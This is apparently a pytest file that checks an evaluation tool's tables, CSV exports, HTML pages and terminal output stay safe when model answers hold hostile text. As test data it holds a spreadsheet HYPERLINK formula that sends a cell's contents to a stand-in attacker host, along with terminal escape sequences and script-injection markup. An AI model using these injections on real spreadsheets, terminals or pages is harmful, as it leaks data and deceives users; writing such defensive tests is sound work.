"""Answers and names with escapes, markup and formulas: harmless wherever they are shown."""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner, Result
from inspect_ai.log import EvalLog
from inspect_ai.model import ChatMessage

from inspect_values.analysis.parquet import write_table
from inspect_values.analysis.table import verdict_table
from inspect_values.cli.main import cli
from inspect_values.errors import DataError
from inspect_values.evaluation.launch import say
from inspect_values.evaluation.tasks.tradeoffs import tradeoffs
from inspect_values.safe import harmless, plain
from inspect_values.testing.matrix import Labs

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;title\x07\x1b[31mred\x1b[2J\x9b31m\u202egnp\u200b"
MARKUP = "<script>window.hacked=1</script>[red]x[/red][link=file:///etc]y[/link]"
HOSTILE = FORMULA + ESCAPES + MARKUP
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
TEXTS = ("model", "judge", "lab", "model_returned", "detail", "plugins", "first_name", "task")


@pytest.fixture
def log(run: Callable[..., EvalLog], judge: Callable[..., Callable[..., str]]) -> EvalLog:
    """A run in which the model and its judge write what they should not."""

    def change(_: str, body: dict[str, object], __: str) -> None:
        body["reasons"] = HOSTILE

    def answer(_: list[ChatMessage]) -> str:
        return f"{HOSTILE}\nHalf a character: \ud83d."

    return run(tradeoffs("fairness_vs_efficiency", scenarios=4), answer, [judge(change=change)])


OTHER = f"{HOSTILE} too"
NAMED = re.compile("HYPERLINK")


@pytest.fixture
def table(log: EvalLog, tmp_path: Path) -> Path:
    """A verdict table of a stranger, hostile in every text that is shown: two models, one audit."""
    rows = verdict_table([log.location], Labs())
    hostile = rows.assign(**{name: name + HOSTILE for name in TEXTS})
    parts = [hostile.assign(model=HOSTILE)]
    parts += [
        parts[0].assign(sample_uuid=rows["sample_uuid"] + name, **changed)
        for name, changed in {
            "other": {"model": OTHER, "first": 0.0, "second": 6.0, "lean": -1.0},
            "base": {"variation": "base"},
            "again": {"variation": "repeat1"},
        }.items()
    ]
    path = tmp_path / "table.parquet"
    write_table(pd.concat([part.astype(rows.dtypes.to_dict()) for part in parts]), path)
    return path


def call(*arguments: object) -> Result:
    found = CliRunner().invoke(cli, [str(a) for a in arguments])
    assert not UNSAFE.search(found.output), UNSAFE.search(found.output)
    assert found.exception is None or isinstance(found.exception, SystemExit), found.exception
    return found


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_number(cell: str) -> bool:
    return bool(re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?", cell))


def assert_no_formula(path: Path) -> None:
    for cell in cells(path):
        assert not cell.lstrip().startswith(tuple("=+-@")) or is_number(cell), cell


def test_a_hostile_table_is_shown_without_escapes_and_written_without_formulas(
    table: Path, tmp_path: Path
) -> None:
    files = [tmp_path / "a.csv", tmp_path / "a.json", tmp_path / "a.html"]
    found = call(
        *("signature", table, "--show", "all", "--ranking", "--rates"),
        *("--csv", files[0], "--json", files[1], "--page", files[2]),
    )
    assert found.exit_code == 0, found.output
    assert NAMED.search(found.output)
    assert NAMED.search(files[0].read_text())
    assert_no_formula(files[0])
    page = files[2].read_text()
    assert "<script>window.hacked" not in page
    assert not re.search(r"[\x00-\x08\x0e-\x1f]\[?31m", page)
    for number, command in enumerate(
        (
            ("elo", table),
            ("disagreement", table, "--json", tmp_path / "d.json"),
            ("compare", HOSTILE, OTHER, table, "--json", tmp_path / "c.json"),
            ("audit", table, "--json", tmp_path / "j.json"),
        )
    ):
        written = tmp_path / f"{number}.csv"
        found = call(*command, "--csv", written)
        assert found.exit_code == 0, found.output
        assert NAMED.search(found.output), "what is hostile was shown, and is harmless"
        assert NAMED.search(written.read_text())
        assert_no_formula(written)


def test_a_hostile_answer_is_a_text_on_a_labelling_sheet(log: EvalLog, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    found = call("labels", "export", log.location, "-o", sheet, "-n", "4")
    assert found.exit_code == 0, found.output
    assert_no_formula(sheet)
    answers = pd.read_csv(sheet)["answer"]
    assert answers.str.startswith("'=HYPERLINK").all()
    assert (tmp_path / "sheet.key.json").exists()


@pytest.mark.parametrize("name", [HOSTILE, "a\nb", "[bold]x", "\x1b[2J"])
def test_errors_and_notes_obey_no_escapes(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert not UNSAFE.search(str(DataError(f"the pair '{name}' is not known.")))
    say(f"{name} answered under 2 model ids.")
    shown = capsys.readouterr().err
    assert not UNSAFE.search(shown)
    assert plain("[bold]x") == "[bold]x"
    call("signature", name)
    call("table", "nothing", "-o", name)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "＝1", "\u3000=1"]
)
def test_a_spreadsheet_runs_nothing(text: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([harmless(text)])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[0].startswith("'")


@pytest.mark.parametrize("text", ["", "a=1", "3 - 2", "'=1", "–", "1"])
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
